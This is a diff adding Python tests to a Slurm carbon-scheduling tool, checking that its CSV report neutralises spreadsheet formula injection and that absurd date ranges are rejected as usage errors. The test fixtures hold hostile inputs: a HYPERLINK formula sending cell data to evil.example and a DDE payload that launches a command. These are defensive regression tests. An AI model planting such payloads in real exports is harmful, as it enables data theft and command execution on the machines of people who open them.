@@ -115,3 +115,37 @@ def test_the_table_shows_users_as_written_and_inert(tmp_path):
     result = CliRunner().invoke(main, ["report", "--config", str(config)], env={**sacct, "COLUMNS": "300"})
     assert result.exit_code == 0, result.output
     assert result.output.count("[/x][mallory]\\nforged") == 2 and result.output.count("[bold]phys") == 2
+
+
+def test_csv_text_cells_are_never_live_formulas_and_numbers_stay_numbers(tmp_path):
+    """A job name is the user's: ``=HYPERLINK(...)`` in the export ran in the admin's spreadsheet."""
+    store = StateStore(tmp_path / "state.db")
+    names = {1: '=HYPERLINK("http://evil.example/?"&B3,"open")', 2: "+1+cmd|' /C calc'!A0", 3: "-2+3",
+             4: "@SUM(A1:A9)", 5: "\t=1+1", 7: "resnet-50"}
+    for job_id, name in names.items():
+        store.record_decisions(T0, [JobDecision(job_id, start_at=T0 + 3600, reason="=1+1" if job_id == 1 else "deferred",
+                                                expected_runtime_s=3600, expected_carbon_kg=0.1, carbon_if_now_kg=0.4)])
+        store.observe_jobs(T0, [Job(job_id, name=name, user="mallory", state=JobState.PENDING, submit_time=T0)])
+    store.close()
+    result = CliRunner().invoke(main, ["report", "--csv", "--config", str(write_config(tmp_path))],
+                                env=sacct_path(tmp_path, 'printf "1|-physics\\n"\n'))
+    assert result.exit_code == 0, result.output
+    rows = {int(r["job_id"]): r for r in csv.DictReader(io.StringIO(result.stdout))}
+    assert {job_id: rows[job_id]["name"] for job_id in names} == {
+        job_id: name if job_id == 7 else f"'{name}" for job_id, name in names.items()}
+    assert rows[1]["reason"] == "'=1+1" and rows[2]["reason"] == "deferred" and rows[1]["account"] == "'-physics"
+    assert float(rows[1]["expected_carbon_kg"]) == 0.1 and rows[1]["cap_fraction"] == ""
+
+
+def test_text_cells_starting_as_formulas_get_a_quote_and_others_are_kept():
+    from slurm_green.cli.accounting import _text_cell
+
+    assert [_text_cell(v) for v in ("\r=1", "\t=1", "-x", "x-y", "", None, -0.5, 3)] == [
+        "'\r=1", "'\t=1", "'-x", "x-y", "", None, -0.5, 3]
+
+
+def test_a_period_datetime_cannot_show_is_a_usage_error_not_a_bug(tmp_path):
+    """``--since 1000000d`` (before year 1) parsed, then showing it was an internal error, exit 70."""
+    for args in (["--since", "1000000d"], ["--since", "0001-01-01"], ["--until", "9" * 400 + "d"]):
+        result = CliRunner().invoke(main, ["report", "--config", str(write_config(tmp_path)), *args])
+        assert result.exit_code == 2 and "more than 100 years from now" in result.output, (args, result.output)
